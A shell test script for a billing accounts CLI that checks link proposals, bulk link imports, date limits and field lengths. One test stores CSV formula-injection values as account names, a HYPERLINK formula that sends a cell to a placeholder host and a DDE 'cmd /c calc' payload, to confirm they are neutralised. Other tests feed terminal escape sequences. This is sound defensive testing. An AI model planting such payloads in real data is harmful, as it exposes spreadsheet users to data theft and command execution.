t "--reason holding a C1 control (U+009B, a terminal's CSI): a usage error" 2 "" "pb-accounts: reject: control character in --reason at byte 2
Try 'pb-accounts reject --help'." "$PBA" reject 6 --by jane --reason "$(printf 'x\302\2332J')"
t "--reason of blanks alone: a usage error, as an empty one" 2 "" "pb-accounts: reject: --reason takes a reason, not ' '
Try 'pb-accounts reject --help'." "$PBA" reject 6 --by jane --reason " "
# A reason is a field as any other, 500 bytes at most: 100,000 bytes of it were stored.
"$PBA" reject 6 --by jane --reason "$(printf '%0501d' 0)" >"$TMP/out" 2>"$TMP/err"
check "--reason of 501 bytes: exit 2, saying so, nothing decided" \
	"2|pb-accounts: reject: --reason is 501 bytes long, at most 500|proposed" \
	"$?|$(head -n 1 "$TMP/err")|$(pb_sql "SELECT status FROM pb.link_proposal WHERE id = 6")"
t "reject records who and why" 0 "rejected link proposal 6: azure partner account $TB to PR1" "" \
	"$PBA" reject 6 --by jane --reason "the tenant is PRB's, made by us"
check "as stored" "rejected|jane|the tenant is PRB's, made by us|t|" \
	"$(pb_sql "SELECT status, decided_by, reason, decided_at IS NOT NULL, link_id FROM pb.link_proposal WHERE id = 6" '|')"
# A reason stored by an older build or by hand with control characters: the proposals' list put them on the
# terminal as they were (the line feed one CSV field over two lines). Each is shown as \xHH.
pb_sql "UPDATE pb.link_proposal SET reason = E'made\\u001b[2J\\nby \\u009b2J us \\u00e9' WHERE id = 6" >/dev/null
check "the proposals' list: control characters stored by hand shown as \\xHH, one line" \
	'made\x1b[2J\x0aby \xc2\x9b2J us é' "$("$PBA" proposals --status rejected | awk -F, '$1 == 6 { print $12 }')"
pb_sql "UPDATE pb.link_proposal SET reason = 'the tenant is PRB''s, made by us' WHERE id = 6" >/dev/null
"$PBA" reject 6 --by joe --reason again >"$TMP/out" 2>"$TMP/err"
check "a rejected proposal cannot be rejected again" "4|pb-accounts: link proposal 6 was rejected by jane at T already" \
	"$?|$(sed 's/at [-0-9T:]*Z/at T/' "$TMP/err")"
"$PBA" approve 6 --by joe >"$TMP/out" 2>"$TMP/err"
check "nor approved" "4|pb-accounts: link proposal 6 was rejected by jane at T already" \
	"$?|$(sed 's/at [-0-9T:]*Z/at T/' "$TMP/err")"
t "reject of a proposal that does not exist" 1 "" "pb-accounts: no link proposal 998" "$PBA" reject 998 --by jane --reason x
t "suggest does not propose a rejected pair again (the linked accounts are no longer listed)" 0 \
	"vendor,partner_account_id,name,alias,rule,proposal,status
azure,$TB,B (PR1),PR1,$R:3,6,rejected" "" "$PBA" suggest --month 2026-10 --rules "$R"
check "no proposal was added" "7" "$(pb_sql "SELECT count(*) FROM pb.link_proposal")"
raw_sql_fails "raw SQL cannot approve without a link" "UPDATE pb.link_proposal SET status = 'approved',
	decided_by = 'x', decided_at = now() WHERE id = 1" link_proposal_approved_link
raw_sql_fails "nor reject without a reason" "UPDATE pb.link_proposal SET status = 'rejected', decided_by = 'x',
	decided_at = now() WHERE id = 1" link_proposal_rejected_why
out=$("$PBDB" psql -X -q -v ON_ERROR_STOP=1 -c "INSERT INTO pb.link_proposal (vendor, partner_account_id, alias,
	rule, evidence_kind, evidence_name, month) VALUES ('aws', '200000000001', 'PR2', 'x:1', 'tag', 'x', '2026-10-01')" 2>&1)
check "nor add a second open proposal of a partner account and alias" \
	"1|ERROR:  duplicate key value violates unique constraint \"link_proposal_open\"" "$?|$(head -1 <<<"$out")"

full "suggest" "$PBA" suggest --month 2026-10 --rules "$R"
full "proposals" "$PBA" proposals
full "reject" "$PBA" reject 1 --by jane --reason "not ours"
pb_sql "INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_id, kind, name, line_count) VALUES
	(920, 'aws', '200000000004', 'account_name', 'clc-PR3-z', 1)" >/dev/null
"$PBA" suggest --month 2026-10 --rules "$R" >/dev/null
full "approve" "$PBA" approve "$(pb_sql "SELECT id FROM pb.link_proposal WHERE partner_account_id = '200000000004'")" --by jane

# Names are the customer's to write, and finance opens these CSVs in a spreadsheet: a text that a spreadsheet
# would run as a formula is written with a quote first, as in the invoice files; numbers are left alone.
pb_sql "INSERT INTO pb.clc_account (alias, name, billing_country, markup_percent, created_by) VALUES
	('FX1', '=HYPERLINK(\"http://x.example/?\"&A1,\"Acme\")', 'US', -5, 'test');
INSERT INTO pb.import (id, vendor, format, source, billing_month, status) VALUES
	(930, 'aws', 'aws-cur', 'test:formula', '2026-08-01', 'committed');
INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_id, kind, name, line_count) VALUES
	(930, 'aws', '200000000009', 'account_name', '@SUM(1+1)*cmd|''/c calc''!A0 (FX1)', 1)" >/dev/null
printf 'aws: \\((?<alias>[A-Z0-9]{2,6})\\)$\n' >"$TMP/rules-fx"
"$PBA" suggest --month 2026-08 --rules "$TMP/rules-fx" >"$TMP/out" 2>"$TMP/err"
check "suggest: a name that starts like a formula is quoted" \
	"0|aws,200000000009,'@SUM(1+1)*cmd|'/c calc'!A0 (FX1),FX1,$TMP/rules-fx:1,10,proposed" "$?|$(tail -n 1 "$TMP/out")"
check "proposals and list too; the markup -5 stays a number" \
	"'@SUM(1+1)*cmd|'/c calc'!A0 (FX1)|FX1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Acme\"\")\",US,false,,USD,-5" \
	"$("$PBA" proposals | grep ',FX1,' | cut -d, -f9)|$("$PBA" list | grep '^FX1,')"

# ---- import-links: many links in one transaction -----------------------------------------------------------

# IL1 and IL2 eligible for aws and azure, IL3 without terms; BK100 to BK299 eligible for aws.
pb_sql "INSERT INTO pb.clc_account (alias, name, billing_country, created_by)
		SELECT a, a || ' Corp', 'US', 'test' FROM unnest(ARRAY['IL1', 'IL2', 'IL3']) a
		UNION ALL SELECT 'BK' || n, 'Bulk ' || n, 'US', 'test' FROM generate_series(100, 299) n;
	INSERT INTO pb.terms_acceptance (alias, terms, region, version, accepted_by)
		SELECT a, t, CASE WHEN t <> 'centurylink' THEN 'US' END, '1', 'test'
		FROM unnest(ARRAY['IL1', 'IL2']) a, unnest(ARRAY['centurylink', 'aws', 'azure']) t
		UNION ALL SELECT 'BK' || n, t, CASE WHEN t = 'aws' THEN 'US' END, '1', 'test'
		FROM generate_series(100, 299) n, unnest(ARRAY['centurylink', 'aws']) t" >/dev/null
AZ=8F0C3E6A-1B2D-4C5E-9F70-A1B2C3D4E5F6
az=8f0c3e6a-1b2d-4c5e-9f70-a1b2c3d4e5f6
links_before=$(pb_sql "SELECT count(*) FROM pb.partner_account")
# links_fail NAME STATUS WANT_ERR ROWS: a file of ROWS under a header is refused with STATUS and WANT_ERR.
links_fail() {
	printf 'alias,vendor,partner_account_id,from,to\n%b' "$4" >"$TMP/links.csv"
	t "$1" "$2" "" "pb-accounts: $TMP/links.csv:$3" "$PBA" import-links "$TMP/links.csv"
}
links_fail "an ineligible account's row: exit 4 at its alias, every failing rule named" 4 \
	"3:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US" \
	'IL1,aws,300000000001,2026-10-01,\nIL3,aws,300000000002,2026-10-01,\n'
links_fail "a row overlapping an earlier row of the file: exit 4 naming its line" 4 \
	"3:9: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) on line 2 already: a partner account maps to one CLC account at a time" \
	'IL1,aws,300000000001,2026-10-01,\nil2,aws,300000000001,2026-10-31,2026-11-30\n'
links_fail "--to before --from: exit 1 at the to column" 1 \
	"2:33: the link would end on 2026-09-30, before it starts on 2026-10-01" 'IL1,aws,300000000001,2026-10-01,2026-09-30\n'
# A link to 9999-12-31 (or from a day of 9999-12) was stored, though no program takes that month (its end,
# 10000-01-01, has no YYYY-MM-DD): the date is checked against the last month supported, 9999-11. A date out of
# range is said as every other reader says it ("is out of range: the last month supported is 9999-11"), not as
# "bad ... date: after the last month supported, 9999-11", the file's own words.
links_fail "a to date after the last month supported: exit 1 at its column" 1 \
	"2:33: to date '9999-12-31' is out of range: the last month supported is 9999-11 (empty: no end)" \
	'IL1,aws,300000000001,2026-10-01,9999-12-31\n'
links_fail "a from date after the last month supported: exit 1 at its column" 1 \
	"2:22: from date '9999-12-01' is out of range: the last month supported is 9999-11" \
	'IL1,aws,300000000001,9999-12-01,\n'
# Year 0000 is written as any other; PostgreSQL has none: out of range, as --from 0000-02-29 is, not malformed.
links_fail "a from date in year 0000: exit 1 at its column, naming the first month supported" 1 \
	"2:22: from date '0000-02-29' is out of range: the first month supported is 0001-01" \
	'IL1,aws,300000000001,0000-02-29,\n'
links_fail "a from date of a day year 0000 does not have: exit 1 at its column, malformed" 1 \
	"2:22: bad from date '0000-02-30': a date YYYY-MM-DD" \
	'IL1,aws,300000000001,0000-02-30,\n'
t "link --to 9999-12-31: a usage error" 2 "" "pb-accounts: link: --to 9999-12-31 is out of range: the last month supported is 9999-11 (without --to, the link has no end)
Try 'pb-accounts link --help'." "$PBA" link IL1 --vendor aws --partner-account 300000000001 --from 2026-10-01 --to 9999-12-31
# create-azure-customer and approve make a link without an end, and take no --to: given one (9999-12-31, as some
# write "no end", or a real day), they said only "unknown option '--to'". They say the link has no end, and what
# ends it.
t "create-azure-customer --to: a usage error that says the link has no end" 2 "" "pb-accounts: create-azure-customer: unknown option '--to' (the link it makes has no end: unlink ends it)
Try 'pb-accounts create-azure-customer --help'." "$PBA" create-azure-customer IL1 --from 2026-10-01 --to 9999-12-31
t "approve --to: a usage error that says the link has no end" 2 "" "pb-accounts: approve: unknown option '--to' (the link it makes has no end: unlink ends it)
Try 'pb-accounts approve --help'." "$PBA" approve 1 --by ops --to 2026-12-31
t "unlink --from: unknown, as before" 2 "" "pb-accounts: unlink: unknown option '--from'
Try 'pb-accounts unlink --help'." "$PBA" unlink IL1 --vendor aws --partner-account 300000000001 --from 2026-10-01
t "link --from 9999-12-01: a usage error" 2 "" "pb-accounts: link: --from 9999-12-01 is out of range: the last month supported is 9999-11
Try 'pb-accounts link --help'." "$PBA" link IL1 --vendor aws --partner-account 300000000001 --from 9999-12-01
t "unlink --to 9999-12-31: a usage error" 2 "" "pb-accounts: unlink: --to 9999-12-31 is out of range: the last month supported is 9999-11
Try 'pb-accounts unlink --help'." "$PBA" unlink IL1 --vendor aws --partner-account 300000000001 --to 9999-12-31
links_fail "the first bad row is the one reported: a rule before bad data" 4 \
	"2:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US" \
	'IL3,aws,300000000001,2026-10-01,\nIL1,aws,300000000001,2026-10-01,\nIL1,aws,1,x,\n'
links_fail "an account that does not exist, before a bad record" 1 "2:1: no CLC account 'ZZ9'" \
	'ZZ9,aws,300000000001,2026-10-01,\nIL1,aws,300000000001,2026-10-01,,x\n'
check "nothing linked by a refused file" "$links_before" "$(pb_sql "SELECT count(*) FROM pb.partner_account")"
# A file whose one bad row is its last: its good rows are checked, but no row is inserted only to be rolled back
# (the sequence of the links' ids would show it).
seq_before=$(pb_sql "SELECT last_value FROM pb.partner_account_id_seq")
links_fail "bad data on the last row: exit 1 at it" 1 \
	"4:9: bad aws partner account id '3000': a 12-digit AWS account id" \
	'IL1,aws,300000000005,2026-10-01,\nIL2,aws,300000000006,2026-10-01,\nIL1,aws,3000,2026-10-01,\n'
check "and nothing was inserted before the refusal" "$seq_before" \
	"$(pb_sql "SELECT last_value FROM pb.partner_account_id_seq")"
printf 'To,FROM,Partner_Account_Id,Vendor,ALIAS\n,2026-10-01,300000000001,aws,il1\n2026-12-31,2026-10-01,%s,azure,IL2\n' "$AZ" |
	gzip >"$TMP/links.csv.gz"
t "import-links: columns in any order and case, gzip, every row linked" 0 \
	"linked 2 partner accounts from $TMP/links.csv.gz" "" "$PBA" import-links "$TMP/links.csv.gz" --by ops
check "as link links them: Azure ids in lowercase, the end included, who and from where" \
	"aws|300000000001|IL1|[2026-10-01,)|import-links|ops
azure|$az|IL2|[2026-10-01,2027-01-01)|import-links|ops" \
	"$(pb_sql "SELECT vendor, partner_account_id, alias, validity, origin, created_by FROM pb.partner_account
		WHERE alias IN ('IL1', 'IL2') ORDER BY id" '|')"
links_fail "a row overlapping a link in the database: exit 4 naming it" 4 \
	"4:9: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time" \
	"IL1,aws,300000000002,2026-10-01,\nIL2,azure,$AZ,2027-01-01,\nIL2,aws,300000000001,2026-11-01,\n"
# --max-errors N: up to N bad rows, in the file's order, each as the first-error path says it; a row is checked as if
# the bad rows before it were not in the file (line 8 overlaps line 5, whose account is not eligible, and is not
# refused for it; line 11 overlaps line 8); exit 1 when a reported row has bad data, 4 when each breaks a rule.
printf 'alias,vendor,partner_account_id,from,to\n%b' 'IL1,aws,300000000011,2026-10-01,\nIL1,aws,3000,2026-10-01,
ZZ9,aws,300000000012,2026-10-01,\nIL3,aws,300000000013,2026-10-01,\nIL2,aws,300000000011,2026-11-01,2026-11-30
IL2,aws,300000000001,2026-11-01,\nIL2,aws,300000000013,2026-10-01,\nIL1,aws,300000000012,2026-10-01,2026-12-31
IL1,aws,300000000011,2026-11-15,2026-11-20\nIL2,aws,300000000013,2026-12-01,2026-12-31
IL1,aws,300000000014,2026-10-01,2026-09-30\n' >"$TMP/many.csv"
many_errors="pb-accounts: $TMP/many.csv:3:9: bad aws partner account id '3000': a 12-digit AWS account id
pb-accounts: $TMP/many.csv:4:1: no CLC account 'ZZ9'
pb-accounts: $TMP/many.csv:5:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US
pb-accounts: $TMP/many.csv:6:9: aws partner account 300000000011 is linked to IL1 from 2026-10-01 (open-ended) on line 2 already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/many.csv:7:9: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/many.csv:10:9: aws partner account 300000000011 is linked to IL1 from 2026-10-01 (open-ended) on line 2 already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/many.csv:11:9: aws partner account 300000000013 is linked to IL2 from 2026-10-01 (open-ended) on line 8 already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/many.csv:12:33: the link would end on 2026-09-30, before it starts on 2026-10-01"
# links_state: how many links, and the last id the sequence gave (a row inserted then rolled back would show).
links_state() { pb_sql "SELECT count(*), (SELECT last_value FROM pb.partner_account_id_seq) FROM pb.partner_account"; }
links_now=$(links_state)
# links_runs FILE N...: import-links FILE with --max-errors N, for each N: a line "status|stdout|stderr" each.
links_runs() {
	local file=$1 m
	shift
	for m in "$@"; do
		"$PBA" import-links "$file" --max-errors "$m" >"$TMP/out" 2>"$TMP/err"
		echo "$?|$(cat "$TMP/out")|$(cat "$TMP/err")"
	done
}
links_runs "$TMP/many.csv" 1 3 100 >"$TMP/many.out"
check "import-links --max-errors 1, 3, 100: the first 1, 3 and all 8 bad rows of five kinds, exit 1, nothing linked" \
	"1||$(head -n 1 <<<"$many_errors")
1||$(head -n 3 <<<"$many_errors")
1||$many_errors
$links_now" "$(cat "$TMP/many.out")
$(links_state)"
sed -n '1p;5,8p;10,11p' "$TMP/many.csv" >"$TMP/rules.csv"
"$PBA" import-links "$TMP/rules.csv" --max-errors 100 >"$TMP/out" 2>"$TMP/err"
check "import-links --max-errors 100: every bad row breaks a rule: exit 4" "4|pb-accounts: $TMP/rules.csv:2:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US
pb-accounts: $TMP/rules.csv:4:9: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/rules.csv:6:9: aws partner account 300000000011 is linked to IL2 from 2026-11-01 to 2026-11-30 on line 3 already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/rules.csv:7:9: aws partner account 300000000013 is linked to IL2 from 2026-10-01 (open-ended) on line 5 already: a partner account maps to one CLC account at a time" \
	"$?|$(cat "$TMP/err")"
# A record of the wrong width (too few fields, too many, one spanning two lines, the last without a line feed) or
# with a stray quote is a bad row of data like any other: with --max-errors, the rows after it are checked too (the
# first such record once stopped the import, one error a run). Each is named as when it is the first bad row.
width_rows=('IL1,aws,300000000021,2026-10-01,' '!IL3,aws,300000000022,2026-10-01,' '!IL1,aws,300000000023'
	'!IL1,aws,300000000024,2026-10-01,,x' $'!IL1,"aws\nx",300000000025,2026-10-01' '!IL2,aws,300000000021,2026-11-01,'
	'!IL1,aws,"3000"0,2026-10-01,' '!IL2,aws,3000,2026-10-01,' '!IL2,aws,300000000026')
width_errors="4|pb-accounts: $TMP/width.csv:3:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US
1|pb-accounts: $TMP/width.csv:4:1: expected 5 fields, found 3
1|pb-accounts: $TMP/width.csv:5:1: expected 5 fields, found 6
1|pb-accounts: $TMP/width.csv:6:1: expected 5 fields, found 4
4|pb-accounts: $TMP/width.csv:8:9: aws partner account 300000000021 is linked to IL1 from 2026-10-01 (open-ended) on line 2 already: a partner account maps to one CLC account at a time
1|pb-accounts: $TMP/width.csv:9:15: unexpected character after closing quote
1|pb-accounts: $TMP/width.csv:10:9: bad aws partner account id '3000': a 12-digit AWS account id
1|pb-accounts: $TMP/width.csv:11:1: expected 5 fields, found 3"
pb_width_file width.csv alias,vendor,partner_account_id,from,to 0 "${width_rows[@]}"
links_runs "$TMP/width.csv" 100 2 1 >"$TMP/width.out"
check "import-links --max-errors 100, 2, 1: rows of the wrong width named among the others, exit 1 (4 for a rule alone)" \
	"1||$(cut -d'|' -f2 <<<"$width_errors")
1||$(head -n 2 <<<"$width_errors" | cut -d'|' -f2)
4||$(head -n 1 <<<"$width_errors" | cut -d'|' -f2)
$links_now" "$(cat "$TMP/width.out")
$(links_state)"
for k in 0 1 2 3 4 5 6 7; do
	pb_width_file first.csv alias,vendor,partner_account_id,from,to $k "${width_rows[@]}"
	"$PBA" import-links "$TMP/first.csv" 2>"$TMP/err" >/dev/null
	echo "$?|$(sed "s|/first.csv:|/width.csv:|" "$TMP/err")"
done >"$TMP/width.out"
check "import-links: each named, with its exit status, as when it is the first bad row" "$width_errors" "$(cat "$TMP/width.out")"
pb_width_file width.csv alias,vendor,partner_account_id,from,to 0 '!IL1,aws,300000000027' '!IL1,aws,30000000002,2026-10-01,' \
	$'!IL1,"aws,300000000028,2026-10-01,\nIL1,aws,300000000029,2026-10-01,\n'
"$PBA" import-links "$TMP/width.csv" --max-errors 100 >"$TMP/out" 2>"$TMP/err"
check "import-links --max-errors 100: a quote left open to the end of the file stops there, after the bad rows before it" \
	"1||pb-accounts: $TMP/width.csv:2:1: expected 5 fields, found 3
pb-accounts: $TMP/width.csv:3:9: bad aws partner account id '30000000002': a 12-digit AWS account id
pb-accounts: $TMP/width.csv:4:5: unterminated quoted field
$links_now" "$?|$(cat "$TMP/out")|$(cat "$TMP/err")
$(links_state)"
# A field of a link file is 500 bytes at most, as one of an account file: a longer one was quoted whole in its
# message, up to four times the 64 KiB of a record once escaped (a control character as \xNN), one such line a
# bad row on standard error and in the temporary file of bad rows. Its length is said instead.
{
	echo alias,vendor,partner_account_id,from,to
	printf 'IL1,aws,%s,2026-10-01,\n' "$(printf '%600s' | tr ' ' 9)"
	printf 'IL1,%s,300000000031,2026-10-01,\n' "$(head -c 60000 /dev/zero | tr '\0' '\1')"
	printf 'IL1,aws,300000000031,2026-10-01,%s\n' "$(printf '%501s' | tr ' ' 1)"
} >"$TMP/long.csv"
"$PBA" import-links "$TMP/long.csv" --max-errors 100 >"$TMP/out" 2>"$TMP/err"
check "import-links: a field longer than 500 bytes is named with its length, not quoted whole" \
	"1||pb-accounts: $TMP/long.csv:2:9: bad partner_account_id: 600 bytes long, at most 500
pb-accounts: $TMP/long.csv:3:5: bad vendor: 60000 bytes long, at most 500
pb-accounts: $TMP/long.csv:4:33: bad to: 501 bytes long, at most 500
$links_now" "$?|$(cat "$TMP/out")|$(cat "$TMP/err")
$(links_state)"
# And so was a header's unknown column: 60,000 bytes of it on one line of standard error.
{
	printf 'alias,vendor,partner_account_id,from,'
	head -c 60000 /dev/zero | tr '\0' '\1'
	printf '\nIL1,aws,300000000031,2026-10-01,x\n'
} >"$TMP/long.csv"
t "import-links: an unknown column longer than 500 bytes is named with its length" 1 "" \
	"pb-accounts: $TMP/long.csv:1:38: unknown column: 60000 bytes long" "$PBA" import-links "$TMP/long.csv"
{
	printf 'alias,name,billing_country,'
	head -c 60000 /dev/zero | tr '\0' x
	printf '\nLH1,Long Header,US,x\n'
} >"$TMP/long.csv"
t "and import too" 1 "" "pb-accounts: $TMP/long.csv:1:28: unknown column: 60000 bytes long" "$PBA" import "$TMP/long.csv"
t "import-links --max-errors keeps the bad rows of data in TMPDIR: one that is not there is named, exit 3" 3 "" \
	"pb-accounts: cannot write a temporary file in '$TMP/no-tmp': No such file or directory" \
	env TMPDIR="$TMP/no-tmp" "$PBA" import-links "$TMP/many.csv" --max-errors 3
# 50,000 rows, every 1000th bad (the five kinds in turn), all reported: the checks run in the server on the whole
# file, not once per bad row.
awk -v tmp="$TMP" 'BEGIN {
	print "alias,vendor,partner_account_id,from" >tmp "/large.csv"
	for (k = 1; k <= 50000; k++) {
		line = k + 1
		id = sprintf("5%011d", k)
		if (k % 1000) {
			printf "BK%d,aws,%s,2026-10-01\n", 100 + k % 200, id >tmp "/large.csv"
			continue
		}
		kind = k / 1000 % 5
		if (kind == 0) {
			printf "BK100,aws,5000,2026-10-01\n" >tmp "/large.csv"
			printf "pb-accounts: %s/large.csv:%d:11: bad aws partner account id '\''5000'\'': a 12-digit AWS account id\n", tmp, line
		} else if (kind == 1) {
			printf "ZZ9,aws,%s,2026-10-01\n", id >tmp "/large.csv"
			printf "pb-accounts: %s/large.csv:%d:1: no CLC account '\''ZZ9'\''\n", tmp, line
		} else if (kind == 2) {
			printf "IL3,aws,%s,2026-10-01\n", id >tmp "/large.csv"
			printf "pb-accounts: %s/large.csv:%d:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US\n", tmp, line
		} else if (kind == 3) {
			printf "BK100,aws,%s,2026-12-01\n", sprintf("5%011d", k - 1) >tmp "/large.csv"
			printf "pb-accounts: %s/large.csv:%d:11: aws partner account %s is linked to BK%d from 2026-10-01 (open-ended) on line %d already: a partner account maps to one CLC account at a time\n", tmp, line, sprintf("5%011d", k - 1), 100 + (k - 1) % 200, line - 1
		} else {
			printf "BK100,aws,300000000001,2026-12-01\n" >tmp "/large.csv"
			printf "pb-accounts: %s/large.csv:%d:11: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time\n", tmp, line
		}
	}
}' >"$TMP/large.want"
/usr/bin/time -f '%e %M' -o "$TMP/large.time" "$PBA" import-links "$TMP/large.csv" --max-errors 100000 >"$TMP/out" 2>"$TMP/err"
st=$?
check "import-links --max-errors 100000: 50,000 rows, the 50 bad ones named in the file's order, nothing linked" \
	"1|$(cat "$TMP/large.want")
$links_now" "$st|$(cat "$TMP/err")
$(links_state)"
echo "# 50,000 rows, 50 bad: $(tail -n 1 "$TMP/large.time" | awk '{ print $1 " s, peak RSS " $2 " KB" }')"
# Rows each overlapping the one link in the database: each row refused was looked for among those refused
# before it by reading them all (a plan for the table of refused rows as it was, empty), which made the check
# quadratic in the rows refused (40,000: 20 s; 100,000: 166 s); now it is read by its index (40,000: 2.6 s; the
# timing is bench/README.md's, "import-links"). Here, that each is named, once.
awk 'BEGIN { print "alias,vendor,partner_account_id,from"; for (k = 0; k < 5000; k++) print "BK100,aws,300000000001,2026-12-01" }' \
	>"$TMP/refused.csv"
"$PBA" import-links "$TMP/refused.csv" --max-errors 100000 >"$TMP/out" 2>"$TMP/err"
st=$?
check "import-links --max-errors 100000: 5,000 rows refused for one link in the database, each named" \
	"4|5000|5000|$links_now" \
	"$st|$(wc -l <"$TMP/err")|$(grep -c ':11: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) already' "$TMP/err")|$(links_state)"
"$PBA" import-links --help >"$TMP/out" 2>&1
check "import-links has --help, and the man page describes it" "0|1|1" \
	"$?|$(grep -c '^usage: pb-accounts import-links FILE.csv' "$TMP/out")|$(grep -c '^\.B import-links$' "$ROOT/man/pb-accounts.1")"
# 30,000 one-day links of one partner account, the last row overlapping the first: refused naming the first
# line it overlaps (how fast is bench/accounts.sh's: speed goals live in benchmarks, not in tests).
{
	echo alias,vendor,partner_account_id,from,to
	pb_sql "SELECT 'IL1,aws,300000000077,' || d::date || ',' || d::date
		FROM generate_series('1950-01-01'::date, '1950-01-01'::date + 29999, '1 day') d"
	echo IL1,aws,300000000077,1950-01-01,
} >"$TMP/one.csv"
"$PBA" import-links "$TMP/one.csv" >"$TMP/out" 2>"$TMP/err"
check "30,000 rows of one partner account, the last overlapping the first: refused, the first line it overlaps named" \
	"4|pb-accounts: $TMP/one.csv:30002:9: aws partner account 300000000077 is linked to IL1 from 1950-01-01 to 1950-01-01 on line 2 already: a partner account maps to one CLC account at a time" \
	"$?|$(cat "$TMP/err")"
# The rows of a file are not held in the client's memory: 200,000 rows (an ineligible account's first, so that
# nothing else is checked) leave its peak RSS under 24 MB (about 9 MB; holding them took 35 MB, a million 250).
{
	echo alias,vendor,partner_account_id,from
	echo IL3,aws,300000000078,2026-10-01
	pb_sql "SELECT 'IL1,aws,3' || lpad(n::text, 11, '0') || ',2026-10-01' FROM generate_series(1, 199999) n"
} >"$TMP/big.csv"
/usr/bin/time -f %M -o "$TMP/rss" "$PBA" import-links "$TMP/big.csv" >"$TMP/out" 2>"$TMP/err"
check "200,000 rows: the first refused, the client's peak RSS under 24 MB whatever the rows" \
	"4|pb-accounts: $TMP/big.csv:2:1: IL3: not eligible for aws: terms not accepted: centurylink; terms not accepted: aws in region US|small" \
	"$?|$(cat "$TMP/err")|$(awk '{ print $1 < 24576 ? "small" : $1 " KB" }' "$TMP/rss" | tail -n 1)"
# suggest held every name of the month, what each matched and the whole CSV in memory (about 190 bytes a name: 2.5
# MB more for 15,000 names than for 1,500). The names are read from a cursor and the CSV goes through a temporary file.
# An account whose names straddle the first thousand rows read still makes one proposal.
pb_sql "INSERT INTO pb.import (id, vendor, format, source, billing_month, status) VALUES
	(940, 'aws', 'aws-cur', 'test:many', '2027-02-01', 'committed'),
	(941, 'aws', 'aws-cur', 'test:many', '2027-03-01', 'committed');
INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_id, kind, name, line_count)
	SELECT i, 'aws', lpad(g::text, 12, '0'), 'account_name', 'unmatched ' || g, 1
	FROM (VALUES (940, 1500), (941, 15000)) v (i, n), generate_series(1, n) g WHERE g <> 999 OR i = 940
	UNION ALL SELECT 941, 'aws', '000000000999', 'account_name', 'clc-PR1-' || x, 1 FROM unnest('{a,b,c}'::text[]) x" >/dev/null
for m in 2027-02 2027-03; do
	/usr/bin/time -f %M -o "$TMP/rss.$m" "$PBA" suggest --month $m --rules "$R" >"$TMP/out.$m" 2>"$TMP/err.$m"
	echo "$?|$(cat "$TMP/err.$m")|$(wc -l <"$TMP/out.$m")"
done >"$TMP/many"
check "suggest: 15,000 names take less than a megabyte more than 1,500" "0||1501
0||15003
small" "$(cat "$TMP/many")
$(awk 'NR == FNR { n = $1; next } { print $1 - n < 1024 ? "small" : $1 - n " KB more" }' "$TMP/rss.2027-02" "$TMP/rss.2027-03" | tail -n 1)"
check "... the names of an account read in two batches: one proposal" "PR1,$(pb_sql "SELECT id FROM pb.link_proposal
	WHERE partner_account_id = '000000000999'"),proposed|3" \
	"$(grep '^aws,000000000999,' "$TMP/out.2027-03" | cut -d, -f4,6,7 | sort -u)|$(grep -c '^aws,000000000999,' "$TMP/out.2027-03")"
# --by is a field of the rows stored: at most 500 bytes, as every field; a longer one is a usage error.
long_by=$(printf '%0501d' 0)
printf 'alias,vendor,partner_account_id,from\nIL1,aws,300000000009,2026-10-01\n' >"$TMP/links.csv"
unchanged "import-links --by of 501 bytes: nothing linked" "$PBA" import-links "$TMP/links.csv" --by "$long_by"
"$PBA" import-links "$TMP/links.csv" --by "$long_by" >"$TMP/out" 2>"$TMP/err"
check "import-links --by of 501 bytes: exit 2, saying so" "2|pb-accounts: import-links: --by is 501 bytes long, at most 500" \
	"$?|$(head -n 1 "$TMP/err")"
"$PBA" accept-terms IL3 --vendor centurylink --version 1 --by "$long_by" >"$TMP/out" 2>"$TMP/err"
check "accept-terms --by of 501 bytes: exit 2, nothing recorded" \
	"2|pb-accounts: accept-terms: --by is 501 bytes long, at most 500|0" \
	"$?|$(head -n 1 "$TMP/err")|$(pb_sql "SELECT count(*) FROM pb.terms_acceptance WHERE alias = 'IL3'")"
"$PBA" accept-terms IL3 --vendor centurylink --version "$long_by" --by ops >"$TMP/out" 2>"$TMP/err"
check "accept-terms --version of 501 bytes: exit 2" "2|pb-accounts: accept-terms: --version is 501 bytes long, at most 64" \
	"$?|$(head -n 1 "$TMP/err")"
# 2,000 links of 200 accounts from standard input, as a reseller maps its partner accounts (link: minutes).
for i in $(seq 1000 2999); do echo "BK$((100 + i % 200)),aws,40000000$i,2026-10-01"; done >"$TMP/links.csv"
t "2,000 links in one run, from standard input" 0 "linked 2000 partner accounts from -" "" \
	sh -c "{ echo alias,vendor,partner_account_id,from; cat '$TMP/links.csv'; } | '$PBA' import-links -"
check "the 2,000 linked, the rows before the refused one not" "2002" \
	"$(pb_sql "SELECT count(*) FROM pb.partner_account WHERE origin = 'import-links'")"

# import-links run again (pb-run runs a step again after exit 3, which a lost connection gives once the commit went
# through; an operator runs the same file twice): a row that is a link stored already (the same partner account,
# account, first and last day, as the import normalizes them) is unchanged and nothing is written for it: no row
# version (xmin), no id from the sequence. A row with other values is refused as before.
links_dump() { pb_sql "SELECT xmin, * FROM pb.partner_account ORDER BY id" '|'; }
